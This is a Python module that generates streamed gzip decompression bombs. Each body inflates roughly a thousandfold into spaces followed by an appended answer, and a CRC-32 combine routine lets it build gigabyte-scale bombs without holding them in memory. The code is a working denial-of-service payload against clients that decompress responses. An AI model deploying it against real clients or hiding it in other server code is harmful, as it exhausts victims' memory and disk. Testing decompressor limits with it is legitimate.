"""Gzip bodies that inflate ~1000-fold, made without ever holding the inflated bytes.

A bomb of ``size`` bytes is: the gzip header, ``size // 1 MiB`` copies of one deflate
block (1 MiB of spaces, compressed alone and ended with a full flush, so every copy is
the same bytes and a decoder can chain them), a last block holding the remaining spaces
and the answer, then the CRC-32 and length trailer. The CRC-32 of the repeated spaces is
found by combining CRCs (zlib's ``crc32_combine`` in Python), not by reading 2 GiB.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

__all__ = ["CHUNK", "GzipBomb", "crc32_combine", "gzip_bomb"]

CHUNK = 1024 * 1024
"""Inflated bytes per repeated block."""

_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"  # no name, no mtime, best compression
_SPACE = b" "
_BLOCKS_PER_WRITE = 64


@dataclass(frozen=True, slots=True)
class GzipBomb:
    """One bomb, ready to send: its length and its bytes, piece by piece."""

    block: bytes
    copies: int
    tail: bytes
    trailer: bytes
    inflated_size: int

    def __len__(self) -> int:
        return len(_HEADER) + len(self.block) * self.copies + len(self.tail) + len(self.trailer)

    def pieces(self) -> Iterator[bytes]:
        """The compressed body in writes of ~64 KiB (the block is never copied more)."""
        yield _HEADER
        group = self.block * _BLOCKS_PER_WRITE
        full, rest = divmod(self.copies, _BLOCKS_PER_WRITE)
        for _ in range(full):
            yield group
        if rest:
            yield group[: rest * len(self.block)]
        yield self.tail + self.trailer


@cache
def _block() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(_SPACE * CHUNK) + packer.flush(zlib.Z_FULL_FLUSH)


@cache
def _padding_crc(copies: int) -> int:
    """CRC-32 of ``copies`` MiB of spaces, by doubling."""
    crc, length = 0, 0
    unit_crc, unit_len = zlib.crc32(_SPACE * CHUNK), CHUNK
    while copies:
        if copies & 1:
            crc = crc32_combine(crc, unit_crc, unit_len) if length else unit_crc
            length += unit_len
        copies >>= 1
        if copies:
            unit_crc = crc32_combine(unit_crc, unit_crc, unit_len)
            unit_len *= 2
    return crc


def gzip_bomb(size: int, answer: bytes) -> GzipBomb:
    """A gzip body inflating to ``max(size, len(answer))`` bytes: spaces, then ``answer``."""
    padding = max(0, size - len(answer))
    copies, rest = divmod(padding, CHUNK)
    last = _SPACE * rest + answer
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail = packer.compress(last) + packer.flush()
    crc = zlib.crc32(last, _padding_crc(copies))
    inflated = padding + len(answer)
    trailer = struct.pack("<II", crc, inflated & 0xFFFFFFFF)
    return GzipBomb(
        block=_block(), copies=copies, tail=tail, trailer=trailer, inflated_size=inflated
    )


# -- zlib's crc32_combine (GF(2) matrices), which Python's zlib module does not expose --


def _times(matrix: list[int], vector: int) -> int:
    total, i = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[i]
        vector >>= 1
        i += 1
    return total


def _square(matrix: list[int]) -> list[int]:
    return [_times(matrix, row) for row in matrix]


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """The CRC-32 of ``a + b`` from ``crc32(a)``, ``crc32(b)`` and ``len(b)``."""
    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]  # one zero bit
    even = _square(odd)  # two zero bits
    odd = _square(even)  # four zero bits
    while True:
        even = _square(odd)
        if len2 & 1:
            crc1 = _times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _square(even)
        if len2 & 1:
            crc1 = _times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2
